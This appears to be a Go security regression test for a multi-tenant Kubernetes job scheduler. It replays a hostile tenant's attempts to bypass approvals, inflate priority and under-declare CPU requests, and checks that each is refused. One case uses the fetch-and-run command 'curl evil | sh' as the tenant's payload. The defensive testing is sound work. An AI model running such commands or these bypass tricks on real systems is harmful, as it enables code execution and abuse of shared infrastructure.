package tenancy

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/purser-io/purser/api/v1alpha1"
	"github.com/purser-io/purser/internal/hub/store"
)

// Issue 33's holes in what purser decides about work, not in what it
// writes: an approval that did not bind to the generation it approved, a
// priority any integer, requests a tenant could declare down. Each case
// is the hostile tenant's attempt, held.
func testSemantics(t *testing.T, f *farm) {
	t.Run("ApprovalBypassByPUT", func(t *testing.T) { testApprovalBypassByPUT(t, f) })
	t.Run("UpdateInPlaceWithoutApproval", func(t *testing.T) { testUpdateInPlaceWithoutApproval(t, f) })
	t.Run("UnapprovedGenerationStoredBehindTheAPI", func(t *testing.T) { testUnapprovedGenerationStored(t, f) })
	t.Run("PriorityIntegerByTenant", func(t *testing.T) { testPriorityIntegerByTenant(t, f) })
	t.Run("DisallowedPriorityClass", func(t *testing.T) { testDisallowedPriorityClass(t, f) })
	t.Run("DeclaredDownRequests", func(t *testing.T) { testDeclaredDownRequests(t, f) })
}

// nowhere keeps a runnable Queued: no cluster is named so.
const nowhere = "  placement: {clusterAffinity: {clusterNames: [nowhere]}}\n"

// withVersion puts metadata.resourceVersion into a runnable's YAML.
func withVersion(body, rv string) string {
	return strings.Replace(body, "metadata: {", "metadata: {resourceVersion: \""+rv+"\", ", 1)
}

// fresh sends what send builds from the object's resourceVersion as user
// read it, read again while the answer is 409: the submitter writes a
// Queued runnable's message meanwhile, and a 409 is never what these
// cases expect.
func (f *farm) fresh(user, path string, send func(rv string) answer) answer {
	f.t.Helper()
	var a answer
	for range 10 {
		got := f.do(user, "GET", path, nil)
		rv := got.str("status", "pendingChange", "resourceVersion")
		if rv == "" {
			rv = got.str("metadata", "resourceVersion")
		}
		if a = send(rv); a.code != http.StatusConflict {
			return a
		}
	}
	return a
}

// The high finding: in a namespace that needs approval, a PUT of an
// approved, still Queued runnable made generation 2 live at once, with
// approvedBy naming the approver of generation 1. Now the change waits
// beside the live spec; its author, an approver there too, cannot approve
// it; and nothing of it reaches the submitters until another approver does.
func testApprovalBypassByPUT(t *testing.T, f *farm) {
	path := "/api/v1/runnables/" + f.approval + "/payroll"
	body := func(cmd string) string {
		return runnable(f.approval, "payroll", strings.Replace(job, "image: busybox}", "image: busybox, command: [sh, -c, '"+cmd+"']}", 1)) + nowhere
	}
	f.yaml("mallory", "POST", "/api/v1/runnables", body("echo reviewed")).want(t, http.StatusAccepted)
	ok := f.fresh("carol", path, func(rv string) answer { return f.do("carol", "POST", path+"/approve?resourceVersion="+rv, nil) }).want(t, http.StatusOK)
	if ok.str("status", "approvedBy") != "carol" || fmt.Sprint(ok.body["status"].(map[string]any)["approvedGeneration"]) != "1" {
		t.Fatalf("approved: %s", ok.raw)
	}

	put := f.fresh("mallory", path, func(rv string) answer {
		return f.yaml("mallory", "PUT", path, withVersion(body("curl evil | sh"), rv))
	}).want(t, http.StatusOK)
	live := f.do("carol", "GET", path, nil).want(t, http.StatusOK)
	spec, _ := json.Marshal(live.body["spec"])
	if fmt.Sprint(live.body["metadata"].(map[string]any)["generation"]) != "1" || strings.Contains(string(spec), "evil") ||
		!strings.Contains(string(spec), "echo reviewed") {
		t.Fatalf("the change went live without approval: %s", live.raw)
	}
	pc, _ := live.body["status"].(map[string]any)["pendingChange"].(map[string]any)
	if pc == nil || pc["author"] != "mallory" || fmt.Sprint(pc["generation"]) != "2" || !strings.Contains(fmt.Sprint(pc["spec"]), "evil") {
		t.Fatalf("the change does not wait in status.pendingChange: %s", live.raw)
	}
	f.refused("approving her own change of an approved runnable", http.StatusForbidden, func() answer {
		return f.do("mallory", "POST", path+"/approve?resourceVersion="+put.str("metadata", "resourceVersion"), nil)
	})
	// carol, who reviewed generation 1, rejects generation 2: the live
	// spec stays as she approved it.
	rej := f.fresh("carol", path, func(rv string) answer { return f.do("carol", "POST", path+"/reject?resourceVersion="+rv, nil) }).want(t, http.StatusOK)
	if rej.str("status", "phase") != "Queued" || fmt.Sprint(rej.body["metadata"].(map[string]any)["generation"]) != "1" ||
		rej.body["status"].(map[string]any)["pendingChange"] != nil {
		t.Fatalf("after the rejection: %s", rej.raw)
	}
	f.do("mallory", "DELETE", path, nil).want(t, http.StatusOK)
}

// The high finding: an update in place of a running FlinkDeployment never
// asked for approval. The runnable here was approved and runs (its row
// and attempt written as the submitter and the ingester would have: the
// sandbox runs no Flink operator); mallory's change of it waits: the
// generation stays, and no status.update asks the submitter to apply it.
func testUpdateInPlaceWithoutApproval(t *testing.T, f *farm) {
	ctx := context.Background()
	flink := func(parallelism int) string {
		return fmt.Sprintf(`apiVersion: flink.apache.org/v1beta1
kind: FlinkDeployment
metadata: {name: wc}
spec:
  image: flink:1.20
  job: {jarURI: "local:///opt/flink/examples/streaming/WordCount.jar", parallelism: %d, upgradeMode: savepoint}
`, parallelism)
	}
	var tmpl map[string]any
	if err := yamlTo(flink(2), &tmpl); err != nil {
		t.Fatal(err)
	}
	spec := v1alpha1.RunnableSpec{Template: tmpl}
	doc, _ := json.Marshal(store.Document[v1alpha1.RunnableSpec]{Spec: spec, Author: &store.Author{Name: "mallory"}})
	uid := "wc-" + f.approval
	if err := f.store.Tx(ctx, func(tx *store.Tx) error {
		if err := tx.Runnables().Create(ctx, &store.Runnable{Namespace: f.approval, Name: "wc", UID: uid, Generation: 1,
			Spec: doc, SpecHash: v1alpha1.SpecHash(spec), Phase: string(v1alpha1.PhaseRunning), Cluster: "dc1", Submitter: "mallory",
			Status: []byte(`{"approvedBy":"carol","approvedGeneration":1}`)}); err != nil {
			return err
		}
		return tx.Attempts().Put(ctx, &store.Attempt{RunnableUID: uid, Number: 1, Cluster: "dc1", ObjectUID: "object-of-wc",
			StartedAt: time.Now(), Generation: 1})
	}); err != nil {
		t.Fatal(err)
	}
	path := "/api/v1/runnables/" + f.approval + "/wc"
	up := f.fresh("mallory", path, func(rv string) answer {
		return f.yaml("mallory", "PUT", path, withVersion(runnable(f.approval, "wc", flink(64)), rv))
	}).want(t, http.StatusOK)
	st := up.body["status"].(map[string]any)
	if fmt.Sprint(up.body["metadata"].(map[string]any)["generation"]) != "1" || st["update"] != nil || st["pendingChange"] == nil ||
		up.str("status", "phase") != string(v1alpha1.PhaseRunning) {
		t.Fatalf("the update in place did not wait for approval: %s", up.raw)
	}
	f.refused("approving her own update in place", http.StatusForbidden, func() answer {
		return f.do("mallory", "POST", path+"/approve?resourceVersion="+up.str("metadata", "resourceVersion"), nil)
	})
	f.fresh("carol", path, func(rv string) answer { return f.do("carol", "POST", path+"/reject?resourceVersion="+rv, nil) }).want(t, http.StatusOK)
}

// The same bypass written to the database behind the API: a Queued
// runnable of the approval namespace at generation 2, approved at 1. The
// submitter fails it, naming the approval, and nothing reaches the cluster.
func testUnapprovedGenerationStored(t *testing.T, f *farm) {
	ctx := context.Background()
	var tmpl map[string]any
	if err := yamlTo(strings.Replace(job, "kind: Job\n", "kind: Job\nmetadata: {name: swapped}\n", 1), &tmpl); err != nil {
		t.Fatal(err)
	}
	spec := v1alpha1.RunnableSpec{Template: tmpl}
	doc, _ := json.Marshal(store.Document[v1alpha1.RunnableSpec]{Spec: spec, Author: &store.Author{Name: "mallory"}})
	if err := f.store.Tx(ctx, func(tx *store.Tx) error {
		return tx.Runnables().Create(ctx, &store.Runnable{Namespace: f.approval, Name: "swapped", UID: "swapped-" + f.approval, Generation: 2,
			Spec: doc, SpecHash: v1alpha1.SpecHash(spec), Phase: string(v1alpha1.PhaseQueued), Submitter: "mallory",
			Status: []byte(`{"approvedBy":"carol","approvedGeneration":1}`)})
	}); err != nil {
		t.Fatal(err)
	}
	eventually(t, "the unapproved generation failed by the submitter", func() error {
		got := f.do("carol", "GET", "/api/v1/runnables/"+f.approval+"/swapped", nil)
		if got.str("status", "phase") != string(v1alpha1.PhaseFailed) ||
			!strings.Contains(got.str("status", "message"), "generation 2 of the spec is not the one carol approved (generation 1)") {
			return fmt.Errorf("%s", got.raw)
		}
		return nil
	})
	kube, err := f.cluster.Client()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := kube.BatchV1().Jobs(f.approval).Get(ctx, "swapped", metav1.GetOptions{}); !apierrors.IsNotFound(err) {
		t.Fatalf("an unapproved generation reached the cluster (%v)", err)
	}
}

// The medium finding: spec.priority 2147483647 from a tenant put her work
// first in the farm's queue. An integer is for admins; she is told the
// classes her namespace may use, and nothing is written.
func testPriorityIntegerByTenant(t *testing.T, f *farm) {
	a := f.refused("a tenant's integer priority", http.StatusUnprocessableEntity, func() answer {
		return f.yaml("mallory", "POST", "/api/v1/runnables", runnable(f.own, "first", job)+"  priority: 2147483647\n")
	})
	if want := "an integer priority (2147483647) is for the farm's admins; namespace " + f.own + " may use the priority classes batch, normal"; !strings.Contains(a.str("message"), want) {
		t.Errorf("the 422 does not say %q: %s", want, a.raw)
	}
	f.yaml("admin", "POST", "/api/v1/runnables", runnable(f.own, "ops", job)+nowhere+"  priority: 2147483647\n").want(t, http.StatusAccepted)
	// Nor may she set an integer by changing an admin's runnable.
	rv := f.do("mallory", "GET", "/api/v1/runnables/"+f.own+"/ops", nil).str("metadata", "resourceVersion")
	// Refused before the version is looked at: no 409 can stand in for it.
	f.refused("a tenant's PUT of an admin's integer priority", http.StatusUnprocessableEntity, func() answer {
		return f.yaml("mallory", "PUT", "/api/v1/runnables/"+f.own+"/ops", withVersion(runnable(f.own, "ops", job)+nowhere+"  priority: 2147483646\n", rv))
	})
	f.do("admin", "DELETE", "/api/v1/runnables/"+f.own+"/ops", nil).want(t, http.StatusOK)
}

// A class the policy keeps for another namespace (the victim's) is 422
// naming those hers may use; one of her own is taken, and one the policy
// does not define is refused too.
func testDisallowedPriorityClass(t *testing.T, f *farm) {
	for _, tc := range []struct{ class, says string }{
		{"critical", `priority class "critical" is not one namespace ` + f.own + ` may use; namespace ` + f.own + ` may use the priority classes batch, normal`},
		{"made-up", `the policy defines no priority class "made-up"`},
	} {
		a := f.refused("priority class "+tc.class, http.StatusUnprocessableEntity, func() answer {
			return f.yaml("mallory", "POST", "/api/v1/runnables", runnable(f.own, "cls", job)+"  priority: "+tc.class+"\n")
		})
		if !strings.Contains(a.str("message"), tc.says) {
			t.Errorf("%s: the 422 does not say %q: %s", tc.class, tc.says, a.raw)
		}
	}
	got := f.yaml("mallory", "POST", "/api/v1/runnables", runnable(f.own, "cls", job)+nowhere+"  priority: normal\n").want(t, http.StatusAccepted)
	if p, _ := got.body["spec"].(map[string]any)["priority"].(string); p != "normal" {
		t.Fatalf("spec.priority %q: %s", p, got.raw)
	}
	f.do("mallory", "DELETE", "/api/v1/runnables/"+f.own+"/cls", nil).want(t, http.StatusOK)
}

// The medium finding: spec.resources {cpu: 1m} on a Job of 10 pods of 8
// CPUs made status.requests 1m, and a quota of 4 CPUs held nothing back.
// The declaration only adds: the Job asks for 80 and waits for its quota.
func testDeclaredDownRequests(t *testing.T, f *farm) {
	ns := f.privileged
	f.yaml("admin", "PUT", "/api/v1/quotas/"+ns, "apiVersion: purser.io/v1alpha1\nkind: Quota\nmetadata: {name: "+ns+"}\nspec:\n  limits: {cpu: \"4\"}\n").want(t, http.StatusCreated)
	// In a closure: a deferred f.do(...).want(...) would send the DELETE now.
	defer func() { f.do("admin", "DELETE", "/api/v1/quotas/"+ns, nil).want(t, http.StatusOK) }()
	wide := `apiVersion: batch/v1
kind: Job
spec:
  parallelism: 10
  completions: 10
  template:
    spec:
      restartPolicy: Never
      containers: [{name: main, image: busybox, resources: {requests: {cpu: "8"}}}]
`
	f.yaml("mallory", "POST", "/api/v1/runnables", runnable(ns, "wide", wide)+"  resources: {cpu: 1m}\n").want(t, http.StatusAccepted)
	path := "/api/v1/runnables/" + ns + "/wide"
	eventually(t, "the Job held by its quota at 80 CPUs", func() error {
		got := f.do("mallory", "GET", path, nil)
		cpu := got.str("status", "requests", "cpu")
		if cpu != "80" || got.str("status", "phase") != string(v1alpha1.PhaseQueued) ||
			!strings.Contains(got.str("status", "message"), "over quota "+ns+": cpu 0 of 4 used, asks for 80") {
			return fmt.Errorf("requests cpu %q: %s", cpu, got.raw)
		}
		return nil
	})
	kube, err := f.cluster.Client()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := kube.BatchV1().Jobs(ns).Get(context.Background(), "wide", metav1.GetOptions{}); !apierrors.IsNotFound(err) {
		t.Fatalf("the Job declared down reached the cluster (%v)", err)
	}
	f.do("mallory", "DELETE", path, nil).want(t, http.StatusOK)
}
